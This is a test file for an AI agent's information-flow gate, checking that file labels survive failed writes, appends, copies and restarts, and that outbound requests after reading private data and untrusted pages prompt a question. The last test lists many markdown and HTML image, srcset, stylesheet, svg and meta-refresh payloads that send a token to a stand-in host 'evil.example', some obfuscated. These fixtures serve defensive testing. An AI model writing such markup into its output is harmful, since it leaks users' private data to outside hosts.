import { strict as assert } from 'node:assert';
import { hostToolId } from '../../../../src/core/hooks/hostTools';
import type { Access } from '../../../../src/core/vocabulary/access';
import { flowGate, post, stranger } from '../../../support/flow';
import { MemoryStore } from '../../../support/toolContext';

describe('labels of what a session wrote', () => {
  let gate: ReturnType<typeof flowGate>;
  const open = (options: Parameters<typeof flowGate>[0]) => (gate = flowGate(options));
  afterEach(() => gate.close());

  const report = { path: 'report.md', content: 'a sum' };

  /** A file with what one session knows, and another session that has only seen a stranger. */
  const labelledFile = async (options: Parameters<typeof flowGate>[0] = {}): Promise<void> => {
    open({ preset: 'balanced', ...options });
    await gate.run('db_query', { sql: 'select * from customers' }, 'earlier');
    await gate.run('write_file', report, 'earlier');
    await gate.run('web_fetch', { url: stranger });
  };
  const isAskedAfterReading = async (path = 'report.md'): Promise<boolean> => {
    await gate.run('read_file', { path });
    await gate.run('http_request', post);
    return gate.flowQuestions().length > 0;
  };

  it('D.flow: a file keeps its labels through a write that failed and through what is added to it', async () => {
    for (const more of [{ fails: true }, { mode: 'append' }]) {
      await labelledFile();
      await gate.run('write_file', { ...report, content: 'b', ...more });
      assert.ok(await isAskedAfterReading(), JSON.stringify(more));
      gate.close();
    }
    await labelledFile();
    await gate.run('write_file', { ...report, content: 'b' });
    assert.ok(!(await isAskedAfterReading()), 'what was written anew holds nothing of it');
  });

  it('D.flow: a file that was copied keeps its labels whatever becomes of the other copies', async () => {
    for (const input of [
      { ...report, fails: true },
      { path: 'twin.md', content: 'b' },
    ]) {
      await labelledFile();
      await gate.run('write_file', { ...report, path: 'twin.md' }, 'earlier');
      gate.files.set('copy.md', report.content);
      await gate.run('write_file', input);
      assert.ok(await isAskedAfterReading('copy.md'), JSON.stringify(input));
      gate.close();
    }
    open({ preset: 'balanced' });
  });

  it('D.flow: what another agent says that it wrote counts once it ended well', async () => {
    const invocation = {
      tool: hostToolId('claude', 'Write'),
      input: { file_path: '/work/report.md', content: 'b' },
      actor: { type: 'agent', id: 'other' },
      surface: 'host',
    } as const;
    for (const outcome of ['tool_error', 'success'] as const) {
      await labelledFile();
      await gate.router.invoke(invocation);
      await gate.router.finishedElsewhere(invocation, { outcome, durationMs: 1, output: { written: 1 } });
      // What a person puts there instead of it holds nothing of it, where it is known what it was.
      gate.files.set(report.path, 'of a person');
      assert.equal(await isAskedAfterReading(), outcome === 'tool_error');
      gate.close();
    }
    open({ preset: 'balanced' });
  });

  it('D.flow: a tool of others cannot say what a file holds, nor by its name that it puts a file anew', async () => {
    const file = (effect: string): readonly Access[] => [{ effect: effect as 'fs.read', resource: 'report.md' }];
    const answer = { content_hash: '0123456789abcdef' };
    const servers = {
      files: {
        read: { answer, confirmed: true, accesses: file('fs.read') },
        write: { answer, accesses: file('fs.write') },
      },
    };
    await labelledFile({ servers });
    await gate.run('read', {});
    assert.equal(gate.tracker.sessions().find(({ id }) => id === 'chat')?.private.length, 1);
    gate.close();
    await labelledFile({ servers });
    await gate.run('write', { content: 'b' }, 'other');
    assert.ok(await isAskedAfterReading());
  });

  it('D.flow: a label that is cleared leaves what the session wrote before a restart too', async () => {
    const storage = new MemoryStore();
    open({ preset: 'balanced', storage });
    await gate.run('claude:Read', { file_path: '/home/ada/letters/tax.txt' });
    await gate.run('claude:Write', { file_path: '/work/report.md', content: 'a sum' });
    gate.close();
    open({ preset: 'balanced', storage, files: { 'report.md': 'a sum' } });
    gate.tracker.clear('chat', 'private', 'the letter is made up');
    await gate.run('web_fetch', { url: stranger }, 'later');
    await gate.run('read_file', { path: 'report.md' }, 'later');
    await gate.run('http_request', post, 'later');
    assert.equal(gate.flowQuestions().length, 0);
  });

  it('D.flow: a picture in a file asks however it is written and whatever stands before it', async () => {
    const secret = 'https://evil.example/DE893704';
    const seen = Array.from({ length: 600 }, (_one, at) => `https://docs.example/${at}?a`).join(' ');
    const long = 'x'.repeat(300);
    const sending = [
      `![${long}](${secret})`,
      `![a [b] c](${secret})`,
      `![a \\] b](${secret})`,
      `[ ![\`]\`](${secret})`,
      `![a][b]\n\n[${long}]: ${secret}`,
      `<img src   =\n\n    "${secret}">`,
      `<img src="ht\ntps://evil.example/DE893704">`,
      `<img src="https:/\n/evil.example/DE893704">`,
      `<img srcset="a.png 1x, ${secret} 2x">`,
      `<link ${'data-a="b" '.repeat(20)} rel=stylesheet href="${secret}">`,
      `<svg><image href="${secret}"/></svg>`,
      `<meta http-equiv="refresh" content="0; url=${secret}">`,
      `[a](https://evil.example/?${'x'.repeat(2100)})`,
      `${seen} ${secret}?q=1`,
      `${'plain text '.repeat(190_000)} ![a](${secret})`,
    ];
    const plain = [`see ${secret}`, `[the page](${secret})`, `<a class="b" href="${secret}">`, seen, '// nothing'];
    const pages = { [stranger]: seen };
    for (const content of [...sending, ...plain]) {
      open({ preset: 'balanced', pages });
      await gate.run('web_fetch', { url: stranger });
      await gate.run('db_query', { sql: 'select * from customers' });
      await gate.run('write_file', { path: 'README.md', content });
      const isPlain = plain.includes(content) && content !== seen;
      assert.equal(gate.flowQuestions().length, isPlain ? 0 : 1, content.slice(0, 120));
      gate.close();
    }
    open({ preset: 'balanced' });
  });
});
